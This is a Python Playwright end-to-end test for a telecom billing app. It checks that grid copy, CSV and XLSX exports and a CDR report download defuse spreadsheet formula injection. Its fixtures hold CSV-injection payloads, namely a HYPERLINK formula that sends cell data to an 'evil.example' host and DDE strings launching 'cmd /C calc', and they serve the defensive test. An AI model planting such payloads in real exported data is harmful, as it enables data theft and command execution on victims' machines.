"""Issue 9, gap 4, in a real browser: the Summary grid's Copy, Export CSV and Export XLSX never
hand a spreadsheet a formula, and a negative number stays a number; the row's Download CDR
report (the server's cdrs.csv) neutralises the stored CDRs' text fields.

The grid's only text column (the period label) is built by the page from period_start, so no
stored value reaches it today; the test puts a hostile label into a grid row to show that any
text the grid ever holds is neutralised by the exports."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import timedelta
from decimal import Decimal
from xml.etree import ElementTree

import pytest
from playwright.sync_api import Locator, Page, expect

from carrierdesk.cdrs.storage import store
from carrierdesk.db import transaction
from carrierdesk.models.base import utcnow
from carrierdesk.summaries.refresh import refresh
from fixtures.browser import NewPage, submit_login
from fixtures.builders import add_customer, add_user, stored_cdr
from support import PASSWORD

pytestmark = [pytest.mark.e2e, pytest.mark.xdist_group("browser")]
EMAIL = "noc@carrier.example"
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Details")'
TEXTS = {
    "dest_name": '=HYPERLINK("http://evil.example","UK")',
    "sip_reason": "+cmd|' /C calc'!A0",
    "release_reason": "-2+3+cmd|' /C calc'!A0",
    "caller": "@SUM(1+1)",
    "callee": "+441234567890",  # E.164: stays a number
}
NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


@pytest.fixture
def losing_customer(db_url: str) -> int:
    """A customer with three calls this hour that cost more than they were charged."""
    with transaction(db_url) as session:
        add_user(session, EMAIL, "operator", PASSWORD)
        customer = add_customer(session, "Acme Telecom", reference="ACME-001", currency="EUR")
        # In the current hour even in its first minute: the grid's first row is the current hour.
        now = utcnow().replace(microsecond=0)
        start = max(now - timedelta(minutes=1), now.replace(minute=0, second=2))
        store(
            session,
            [
                stored_cdr(
                    customer.id,
                    f"loss-{i}",
                    start - timedelta(seconds=i),
                    answer_time=start - timedelta(seconds=i) + timedelta(seconds=2),
                    end_time=start - timedelta(seconds=i) + timedelta(seconds=62),
                    caller=TEXTS["caller"],
                    callee=TEXTS["callee"],
                    dest_name=TEXTS["dest_name"],
                    sip_reason=TEXTS["sip_reason"],
                    release_reason=TEXTS["release_reason"],
                    pdd_ms=1000,
                    charge=Decimal("0.010000"),
                    cost=Decimal("0.050000"),
                )
                for i in range(3)
            ],
        )
        refresh(session)
        return customer.id


@pytest.fixture
def tab(losing_customer: int, served_app: str, new_page: NewPage) -> Page:
    page = new_page(
        viewport={"width": 1600, "height": 1000}, accept_downloads=True, base_url=served_app
    )
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=served_app)
    submit_login(page, served_app, EMAIL, PASSWORD)
    page.goto(f"{served_app}/customers/{losing_customer}")
    expect(page.locator("#summary-grid[data-loaded='true'][data-timeframe='24h']")).to_be_visible()
    return page


def cell(page: Page, row: int, field: str) -> Locator:
    grid_row = page.locator("#summary-grid .tabulator-row").nth(row)
    return grid_row.locator(f".tabulator-cell[tabulator-field='{field}']")


def menu(page: Page, item: str, field: str = "attempts") -> None:
    cell(page, 0, field).click(button="right")
    page.locator(".tabulator-menu-item").get_by_text(item, exact=True).click()


def download(page: Page, item: str) -> bytes:
    with page.expect_download() as exported:
        menu(page, item)
    with open(exported.value.path(), "rb") as handle:
        return handle.read()


def xlsx_cells(workbook: bytes) -> tuple[list[tuple[str, str | None, str]], str]:
    """(reference, type, value) of every cell of the first sheet (shared strings resolved),
    and the sheet's XML."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        names = book.namelist()
        shared = (
            [
                "".join(t.text or "" for t in si.iter(f"{{{NS['x']}}}t"))
                for si in ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
            ]
            if "xl/sharedStrings.xml" in names
            else []
        )
    found = []
    for c in ElementTree.fromstring(sheet).iter(f"{{{NS['x']}}}c"):
        kind, v = c.get("t"), c.find("x:v", NS)
        inline = c.find("x:is/x:t", NS)
        value = inline.text or "" if inline is not None else (v.text or "" if v is not None else "")
        if kind == "s":
            value = shared[int(value)]
        found.append((c.get("r") or "", kind, value))
    return found, sheet


def test_summary_exports_hand_no_formula_to_a_spreadsheet(tab: Page) -> None:
    profit = float(
        tab.evaluate("Tabulator.findTable('#summary-grid')[0].getRows()[0].getData().profit")
    )
    assert profit == pytest.approx(-0.12)  # 3 × (0.01 − 0.05): a legitimate negative number
    tab.evaluate(
        "label => Tabulator.findTable('#summary-grid')[0].getRows()[0].update({date: label})",
        HOSTILE,
    )
    expect(cell(tab, 0, "date")).to_have_text(HOSTILE)

    # Copy: the cell has a quote in it, so it is quoted as spreadsheets quote tab-separated text
    cell(tab, 0, "date").click()
    menu(tab, "Copy", "date")
    expect(tab.locator("#summary-selection")).to_have_attribute("data-copied", "none")
    copied = tab.evaluate("navigator.clipboard.readText()")
    assert copied == "\"'" + HOSTILE.replace('"', '""') + '"'

    # Export CSV: the label is prefixed, the numbers are as shown (the negative one too; money
    # under headers naming the currency, issue 14)
    exported = download(tab, "Export CSV").decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(exported, newline="")))
    header = next(line for line in lines if "Profit (EUR)" in line)
    data = next(line for line in lines if line and line[0].startswith("'="))
    assert data[0] == "'" + HOSTILE
    row = dict(zip(header, data, strict=False))
    assert row["Profit (EUR)"] == "-0.12"
    assert (row["Cost (EUR)"], row["Attempts"]) == ("0.15", "3")
    formulas = [v for line in lines for v in line if re.match(r"[=+@\t\r]", v)]
    assert formulas == []
    negatives = [v for line in lines for v in line if v.startswith("-")]
    assert negatives and all(float(v) < 0 for v in negatives)  # numbers, not formulas

    # Export XLSX: no formula anywhere; the label is a text cell, the loss a number cell
    cells, sheet = xlsx_cells(download(tab, "Export XLSX"))
    assert "<f>" not in sheet and "<f " not in sheet
    label = [(kind, value) for _ref, kind, value in cells if HOSTILE in value]
    assert label == [("s", "'" + HOSTILE)]
    numbers = {float(value) for _ref, kind, value in cells if kind in (None, "n") and value}
    assert any(v == pytest.approx(-0.12) for v in numbers)
    texts = [value for _ref, kind, value in cells if kind in ("s", "str", "inlineStr")]
    assert [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")] == []


def test_row_download_of_the_cdr_report_is_neutralised(tab: Page) -> None:
    with tab.expect_download() as download_info:
        cell(tab, 0, "action").locator("a.summary-download").click()
    with open(download_info.value.path(), encoding="utf-8") as handle:
        rows = list(csv.DictReader(io.StringIO(handle.read(), newline="")))
    assert len(rows) == 3
    for row in rows:
        assert row["dest_name"] == "'" + TEXTS["dest_name"]
        assert row["sip_reason"] == "'" + TEXTS["sip_reason"]
        assert row["release_reason"] == "'" + TEXTS["release_reason"]
        assert row["caller"] == "'" + TEXTS["caller"]
        assert row["callee"] == TEXTS["callee"]
        assert (row["charge"], row["cost"]) == ("0.010000", "0.050000")
